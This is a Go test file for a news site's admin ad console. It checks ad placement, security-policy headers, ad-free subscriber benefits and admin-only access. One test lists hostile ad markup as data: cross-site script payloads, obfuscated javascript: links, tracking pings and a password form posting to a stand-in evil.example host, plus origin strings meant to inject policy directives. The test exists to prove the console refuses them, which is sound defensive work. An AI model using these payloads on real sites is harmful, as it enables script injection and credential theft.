package web_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"broadsheet/internal/ads"
	"broadsheet/internal/app/apptest"
	"broadsheet/internal/content"
	"broadsheet/internal/offer"
)

const adOrigin = "https://ads.example.net"

// adForm is the console's form: every slot and the origins.
func adForm(origins string, slots map[string]string) url.Values {
	form := url.Values{"origins": {origins}}
	for _, info := range ads.Slots() {
		form.Set(info.Name, slots[info.Name])
	}
	return form
}

// thirdPartyAds are ads from the allowed origin in every slot, each with a
// marker to find it by.
var thirdPartyAds = map[string]string{
	"home-top":       `<script src="https://ads.example.net/tag.js" async></script><div class="sponsor" id="ad-home">Home advertiser</div>`,
	"section-top":    `<a href="https://advertiser.example/offer"><img src="https://ads.example.net/banner.png" alt="Section advertiser" id="ad-section"></a>`,
	"article-inline": `<p id="ad-inline">Inline advertiser <img src="/static/ad.png" alt=""></p>`,
	"article-end":    `<iframe src="https://ads.example.net/frame" title="End advertiser" id="ad-end"></iframe>`,
}

func saveAds(t *testing.T, admin *apptest.Browser, origins string, slots map[string]string) {
	t.Helper()
	if resp := admin.Post("/admin/ads", adForm(origins, slots)); resp.Status != http.StatusOK || !strings.HasSuffix(resp.URL, "/admin/ads") {
		t.Fatalf("saving the ads: status %d at %s: %s", resp.Status, resp.URL, errorText(resp.Body))
	}
}

// errorText is the console's refusal, if any.
func errorText(body string) string {
	if i := strings.Index(body, `id="ads-error"`); i >= 0 {
		end := strings.Index(body[i:], "</p>")
		return body[i : i+end]
	}
	return ""
}

// longStory returns a free story longer than its lead, for the inline slot.
func longStory(t *testing.T, site *apptest.Site) *content.Article {
	t.Helper()
	free, _ := stories(t, site)
	for _, a := range free {
		if len(a.Paragraphs()) > site.App.Settings.Get().LeadParagraphs+1 && a.WireSource == "" {
			return a
		}
	}
	t.Fatal("no free demo story is longer than its lead")
	return nil
}

// An admin's ads appear in their slots for a visitor, a registered reader
// and a subscriber whose plan lacks ad-free reading, with a policy that
// lets the allowed origin serve them; a subscriber with ad-free reading
// gets no ad markup and the site's own policy, until the admin takes the
// benefit out of the plan, when the next page has the ads.
func TestAdSlotsFollowTheConsoleAndTheAdFreeBenefit(t *testing.T) {
	apptest.Each(t, func(t *testing.T, site *apptest.Site) {
		admin := site.NewBrowser()
		logIn(t, admin, demoAccount(t, "admin"), "/")
		saveAds(t, admin, adOrigin, thirdPartyAds)
		story := longStory(t, site)
		article := "/article/" + story.Slug
		section := "/section/" + story.SectionSlug
		want := map[string][]string{
			"/":         {`data-ad-slot="home-top"`, `id="ad-home"`, `src="https://ads.example.net/tag.js"`},
			section:     {`data-ad-slot="section-top"`, `id="ad-section"`},
			"/insights": {`data-ad-slot="section-top"`},
			article:     {`data-ad-slot="article-inline"`, `id="ad-inline"`, `data-ad-slot="article-end"`, `id="ad-end"`},
		}
		adCSP := "default-src 'self'; script-src 'self' " + adOrigin + "; style-src 'self'; img-src 'self' data: " + adOrigin + "; " +
			"frame-ancestors 'none'; base-uri 'none'; form-action 'self'; object-src 'none'; frame-src 'self' " + adOrigin + "; connect-src 'self' " + adOrigin

		includeOnly(t, site, admin, "smart-quarterly", offer.Premium, offer.Info)
		lacking := subscribeTo(t, site, "registered reader", "smart-quarterly")
		for who, b := range map[string]*apptest.Browser{"a visitor": site.NewBrowser(), "a subscriber without ad-free reading": lacking} {
			for path, marks := range want {
				resp := b.Get(path)
				for _, m := range marks {
					if !strings.Contains(resp.Body, m) {
						t.Errorf("%s: %s is not shown %s", path, who, m)
					}
				}
				if got := resp.Header.Get("Content-Security-Policy"); got != adCSP {
					t.Errorf("%s for %s: Content-Security-Policy %q, want %q", path, who, got, adCSP)
				}
			}
		}

		// The inline slot sits after the lead paragraphs, within the story.
		body := site.NewBrowser().Get(article).Body
		lead := site.App.Settings.Get().LeadParagraphs
		storyBody := body[strings.Index(body, `<div class="story-body">`):]
		slot := strings.Index(storyBody, `<aside class="ad-slot" data-ad-slot="article-inline"`)
		if slot < 0 || strings.Count(storyBody[:slot], "</p>") != lead || !strings.HasPrefix(storyBody[strings.Index(storyBody[slot:], "</aside>")+slot+len("</aside>"):], "<p") {
			t.Errorf("the inline slot is not between the lead's %d paragraphs and the rest: %.600s", lead, storyBody)
		}

		// Pages with no slot keep the site's policy, ads or not.
		for _, path := range []string{"/login", "/subscribe", "/search?q=markets", "/archive", "/newsletters"} {
			resp := site.NewBrowser().Get(path)
			if got := resp.Header.Get("Content-Security-Policy"); got != wantCSP || strings.Contains(resp.Body, "data-ad-slot") {
				t.Errorf("%s, a page without ad slots: Content-Security-Policy %q, ad markup %v", path, got, strings.Contains(resp.Body, "data-ad-slot"))
			}
		}
		if resp := lacking.Get("/account"); resp.Header.Get("Content-Security-Policy") != wantCSP {
			t.Errorf("/account: Content-Security-Policy %q", resp.Header.Get("Content-Security-Policy"))
		}

		// The demo subscriber's plan includes ad-free reading.
		subscriber := site.NewBrowser()
		logIn(t, subscriber, demoAccount(t, "subscriber"), "/")
		for path := range want {
			resp := subscriber.Get(path)
			if strings.Contains(resp.Body, "data-ad-slot") || strings.Contains(resp.Body, "ads.example.net") || strings.Contains(resp.Body, "advertiser") {
				t.Errorf("%s: a subscriber with ad-free reading gets ad markup", path)
			}
			if got := resp.Header.Get("Content-Security-Policy"); got != wantCSP {
				t.Errorf("%s for a subscriber with ad-free reading: Content-Security-Policy %q, want the site's own", path, got)
			}
		}

		// The admin takes ad-free reading out of the subscriber's plan:
		// the next page has the ads.
		var kinds []offer.Kind
		for _, b := range site.App.Offer.Catalog.Get().Benefits() {
			if b.Kind != offer.AdFree {
				kinds = append(kinds, b.Kind)
			}
		}
		includeOnly(t, site, admin, "smart-essential", kinds...)
		for path, marks := range want {
			if resp := subscriber.Get(path); !strings.Contains(resp.Body, marks[0]) || resp.Header.Get("Content-Security-Policy") != adCSP {
				t.Errorf("%s: ad-free reading taken out of the plan, the subscriber still gets no ads", path)
			}
		}
	})
}

// Ad markup reaches pages only: the API, the feeds and the sitemaps carry
// none, to anyone.
func TestAdMarkupStaysOutOfTheAPIAndFeeds(t *testing.T) {
	apptest.Each(t, func(t *testing.T, site *apptest.Site) {
		admin := site.NewBrowser()
		logIn(t, admin, demoAccount(t, "admin"), "/")
		saveAds(t, admin, adOrigin, thirdPartyAds)
		story := longStory(t, site)
		b := site.NewBrowser()
		for _, path := range []string{"/api/v1/articles", "/api/v1/articles/" + story.Slug, "/feed.xml", "/section/" + story.SectionSlug + "/feed.xml", "/picks/feed.xml", "/sitemap.xml"} {
			resp := b.Get(path)
			if resp.Status != http.StatusOK {
				t.Errorf("%s: status %d", path, resp.Status)
			}
			if strings.Contains(resp.Body, "ad-slot") || strings.Contains(resp.Body, "advertiser") || strings.Contains(resp.Body, "ads.example.net") {
				t.Errorf("%s carries ad markup", path)
			}
		}
	})
}

// Markup that would load from anywhere else, or run inline script, is
// refused with the reason, and the slots keep what they had; so are bad
// origins, and taking away an origin that a slot still uses.
func TestAdConsoleRefusesHostileMarkup(t *testing.T) {
	apptest.Each(t, func(t *testing.T, site *apptest.Site) {
		admin := site.NewBrowser()
		logIn(t, admin, demoAccount(t, "admin"), "/")
		saveAds(t, admin, adOrigin, thirdPartyAds)
		stored := site.App.Settings.Get().Raw
		for _, c := range []struct{ origins, markup, says string }{
			{adOrigin, `<script src="https://evil.example/x.js"></script>`, "https://evil.example/x.js"},
			{adOrigin, `<script>document.write('x')</script>`, "inline"},
			{adOrigin, `<script src="https://ads.example.net/tag.js">alert(1)</script>`, "inline script"},
			{adOrigin, `<img src="/static/ad.png" onerror="alert(1)">`, "onerror"},
			{adOrigin, `<IMG SRC="/static/ad.png" OnLoad="alert(1)">`, "onload"},
			{adOrigin, `<a href="javascript:alert(1)">Win</a>`, "javascript:"},
			{adOrigin, `<a href=" JaVa&#x09;ScRipt:alert(1)">Win</a>`, "javascript:"},
			{adOrigin, `<iframe src="https://elsewhere.example/ad"></iframe>`, "https://elsewhere.example/ad"},
			{adOrigin, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, "srcdoc"},
			{adOrigin, `<img src="//evil.example/p.gif">`, "//evil.example/p.gif"},
			{adOrigin, `<img src="/\evil.example/p.gif">`, "evil.example"},
			{adOrigin, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, "data:image"},
			{adOrigin, `<img srcset="/a.png 1x, https://evil.example/b.png 2x">`, "https://evil.example/b.png"},
			{adOrigin, `<video poster="https://evil.example/p.jpg"></video>`, "https://evil.example/p.jpg"},
			{adOrigin, `<svg><image href="https://evil.example/i.svg"/></svg>`, "https://evil.example/i.svg"},
			{adOrigin, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, "javascript:"},
			{adOrigin, `<script src="https://ads.example.net.evil.example/x.js"></script>`, "https://ads.example.net.evil.example/x.js"},
			{adOrigin, `<script src="https://ads.example.net@evil.example/x.js"></script>`, "https://ads.example.net@evil.example/x.js"},
			{adOrigin, `<script src="http://ads.example.net/x.js"></script>`, "http://ads.example.net/x.js"},
			{adOrigin, `<a href="/subscribe" ping="https://evil.example/track">Subscribe</a>`, "https://evil.example/track"},
			{adOrigin, `<link rel="stylesheet" href="https://ads.example.net/a.css">`, "link"},
			{adOrigin, `<div style="color:red">Sale</div>`, "style"},
			{adOrigin, `<style>body{display:none}</style>`, "style"},
			{adOrigin, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, "meta"},
			{adOrigin, `<base href="https://evil.example/">`, "base"},
			{adOrigin, `<form action="https://evil.example/login"><input name="password"></form>`, "form"},
			{adOrigin, `<object data="https://ads.example.net/a.swf"></object>`, "object"},
			{adOrigin, `<noscript><img src="https://evil.example/p.gif"></noscript>`, "noscript"},
			{adOrigin, strings.Repeat("x", ads.MaxMarkup+1), "bytes long"},
			// Origins: only a scheme and host, nothing for the header to
			// read as more of the policy.
			{"https://ads.example.net/path", "", "is not an origin"},
			{"ads.example.net", "", "is not an origin"},
			{"https://*.example.net", "", "is not an origin"},
			{"https://ads.example.net;script-src", "", "is not an origin"},
			{"'unsafe-inline'", "", "is not an origin"},
			{"javascript:alert(1)", "", "is not an origin"},
			// Taking the origin away while a slot loads from it.
			{"", thirdPartyAds["home-top"], "https://ads.example.net/tag.js"},
		} {
			slots := map[string]string{}
			for k, v := range thirdPartyAds {
				slots[k] = v
			}
			slots["section-top"] = `<p id="changed">Changed</p>` // with the refused slot, nothing is saved
			if c.markup != "" {
				slots["home-top"] = c.markup
			}
			resp := admin.Post("/admin/ads", adForm(c.origins, slots))
			msg := errorText(resp.Body)
			if resp.Status != http.StatusUnprocessableEntity || !strings.Contains(strings.ToLower(unescape(msg)), strings.ToLower(c.says)) {
				t.Errorf("origins %q, markup %q: status %d, error %q, want it to name %q", c.origins, c.markup, resp.Status, msg, c.says)
			}
			if got := site.App.Settings.Get().Raw; got[ads.KeyHomeTop] != stored[ads.KeyHomeTop] || got[ads.KeySectionTop] != stored[ads.KeySectionTop] ||
				got[ads.KeyOrigins] != stored[ads.KeyOrigins] {
				t.Fatalf("markup %q refused, yet the slots changed", c.markup)
			}
		}
		home := site.NewBrowser().Get("/")
		if !strings.Contains(home.Body, `id="ad-home"`) || strings.Contains(home.Body, "evil.example") {
			t.Error("after the refusals, the front page does not show the slot's old markup alone")
		}
		if section := site.NewBrowser().Get("/section/markets"); strings.Contains(section.Body, `id="changed"`) {
			t.Error("a refused save changed another slot")
		}

		// An unclosed tag is closed within its slot, not around the page.
		saveAds(t, admin, "", map[string]string{"home-top": `<div class="house-ad"><b>Sale</main></aside></footer>`})
		page := site.NewBrowser().Get("/").Body
		slot := page[strings.Index(page, `data-ad-slot="home-top"`):]
		if !strings.Contains(slot, `<div class="house-ad"><b>Sale</b></div></aside>`) {
			t.Errorf("the unclosed markup was not closed within its slot: %.200s", slot)
		}
		// An emptied slot renders nothing at all.
		saveAds(t, admin, "", nil)
		if page := site.NewBrowser().Get("/").Body; strings.Contains(page, "ad-slot") {
			t.Error("an empty slot renders markup")
		}
	})
}

// unescape reads the refusal as the admin does.
func unescape(s string) string {
	return strings.NewReplacer("&#34;", `"`, "&#39;", "'", "&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(s)
}

// Only admins reach the ads console, and a form from another site is
// refused.
func TestAdConsoleIsForAdminsOnly(t *testing.T) {
	apptest.Each(t, func(t *testing.T, site *apptest.Site) {
		before := site.App.Settings.Get().Raw[ads.KeyHomeTop]
		hostile := adForm("https://evil.example", map[string]string{"home-top": `<script src="https://evil.example/x.js"></script>`})
		for _, role := range []string{"editor", "registered reader", "subscriber", ""} {
			b := site.NewBrowser()
			if role != "" {
				logIn(t, b, demoAccount(t, role), "/")
			}
			if resp := b.Get("/admin/ads"); resp.Status != http.StatusForbidden && !strings.Contains(resp.URL, "/login") || strings.Contains(resp.Body, `id="ads-form"`) {
				t.Errorf("%q opens the ads console: status %d at %s", role, resp.Status, resp.URL)
			}
			if resp := b.Post("/admin/ads", hostile); resp.Status != http.StatusForbidden && !strings.Contains(resp.URL, "/login") {
				t.Errorf("%q posts the ads console: status %d at %s", role, resp.Status, resp.URL)
			}
		}
		admin := site.NewBrowser()
		logIn(t, admin, demoAccount(t, "admin"), "/")
		if resp := admin.Get("/admin"); !strings.Contains(resp.Body, `href="/admin/ads"`) {
			t.Error("the console's front page does not lead to the ads")
		}
		resp := admin.Do(http.MethodPost, "/admin/ads", strings.NewReader(hostile.Encode()),
			http.Header{"Sec-Fetch-Site": {"cross-site"}, "Content-Type": {"application/x-www-form-urlencoded"}})
		if resp.Status != http.StatusForbidden {
			t.Errorf("a cross-site post of the ads form: status %d", resp.Status)
		}
		if got := site.App.Settings.Get().Raw[ads.KeyHomeTop]; got != before {
			t.Errorf("the slot changed to %q", got)
		}
	})
}
